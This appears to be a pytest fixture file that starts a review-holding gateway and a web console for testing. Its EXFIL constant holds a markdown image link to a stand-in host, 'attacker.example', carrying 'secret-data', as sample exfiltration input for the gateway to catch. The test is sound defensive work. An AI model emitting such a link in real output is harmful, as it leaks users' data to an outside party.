"""A gateway (holding responses for review) and the console over the same ledger, on loopback."""

from __future__ import annotations

import contextlib
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import joblib
import numpy as np
import pytest
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

from sai.catalog import load_catalog
from sai.gateway import serve_in_thread
from sai.manifest import LoadedManifest, load_manifest
from sai.manifest.schema import GatewayPolicies, GatewaySpec
from sai.web import ConsoleSettings, create_console
from sai.web.gate import scanned_model
from tests.gateway.conftest import Harness, running_gateway

MANIFEST = """\
version: 1
name: console-test
intended_use: Testing the web console.
roles: [developer, system_operator]
models:
  - name: clf
    path: model.joblib
    format: joblib
    source: trained-in-house
people:
  owners:
    - name: Test Owner
  security_contact: security@example.org
gateway:
  policies:
    review_on: [exfiltration]
"""
EXFIL = [{"role": "user", "content": "![x](https://attacker.example/c?d=secret-data)"}]
_CSRF = re.compile(r'name="csrf" value="([^"]+)"')


def train_model(path: Path) -> Any:
    """A small scaler + logistic regression on 3 features, dumped with joblib."""
    rng = np.random.default_rng(0)
    x = rng.normal(size=(200, 3)) * [1.0, 2.0, 0.5] + [5.0, 0.0, -1.0]
    y = (x[:, 0] - 5.0 + 0.5 * x[:, 1] > 0).astype(int)
    model = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
    joblib.dump(model, path)
    return model


def write_project(root: Path, manifest: str = MANIFEST) -> LoadedManifest:
    """sai.yaml and its model in ``root``, loaded."""
    train_model(root / "model.joblib")
    (root / "sai.yaml").write_text(manifest)
    return load_manifest(root / "sai.yaml")


def csrf_of(page: str) -> str:
    """The CSRF token in a rendered form."""
    found = _CSRF.search(page)
    assert found, "the page has no CSRF field"
    return found.group(1)


@dataclass
class Console:
    """The console's URL, the gateway harness behind it, and one key per role."""

    url: str
    gateway: Harness
    loaded: LoadedManifest

    def client(self) -> httpx.Client:
        return httpx.Client(base_url=self.url, timeout=15.0, follow_redirects=False)

    @contextlib.contextmanager
    def signed_in(self, role: str) -> Iterator[httpx.Client]:
        """A client with a session of ``role``'s key."""
        with self.client() as http:
            form = http.get("/signin")
            answer = http.post(
                "/signin",
                data={"api_key": self.gateway.keys[role], "csrf": csrf_of(form.text), "next": "/"},
            )
            assert answer.status_code == 303, answer.text
            yield http

    def csrf(self, http: httpx.Client) -> str:
        return csrf_of(http.get("/reviews").text)

    def hold(self, role: str = "user") -> str:
        """A chat response held for review (requested with ``role``'s key); its review id."""
        raw = self.gateway.client(role).chat.completions.with_raw_response.create(
            model="m", messages=EXFIL
        )
        assert raw.http_response.status_code == 202
        return str(raw.headers["x-sai-review-id"])


@contextlib.contextmanager
def running_console(root: Path, **settings: Any) -> Iterator[Console]:
    """Gateway with review on exfiltration + console on the same ledger, both on loopback."""
    loaded = write_project(root)
    spec = GatewaySpec(policies=GatewayPolicies(review_on=["exfiltration"]))
    with running_gateway(root, gateway=spec) as harness:
        app = create_console(
            harness.ledger,
            loaded.manifest,
            load_catalog(),
            ConsoleSettings.from_manifest(loaded.manifest, **settings),
            predict_models={"clf": root / "model.joblib"},
            model_gate=scanned_model,
        )
        server = serve_in_thread(app)
        try:
            yield Console(server.url, harness, loaded)
        finally:
            server.stop()


@pytest.fixture
def console(workspace_dir: Path) -> Iterator[Console]:
    with running_console(workspace_dir) as running:
        yield running


@pytest.fixture(scope="module")
def shared_console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    """One console for a module's read-mostly tests (starting one per test is slow)."""
    from sai.workspace import create_workspace

    root = tmp_path_factory.mktemp("console") / "project"
    root.mkdir()
    with pytest.MonkeyPatch.context() as patch:
        for var in ("SAI_WORKSPACE", "SAI_DATABASE_URL", "SAI_REDIS_URL"):
            patch.delenv(var, raising=False)
        create_workspace(root, name="console test")
        with running_console(root) as running:
            yield running


@pytest.fixture
def make_console(workspace_dir: Path) -> Iterator[Callable[..., Console]]:
    stack = contextlib.ExitStack()

    def make(**settings: Any) -> Console:
        return stack.enter_context(running_console(workspace_dir, **settings))

    with stack:
        yield make
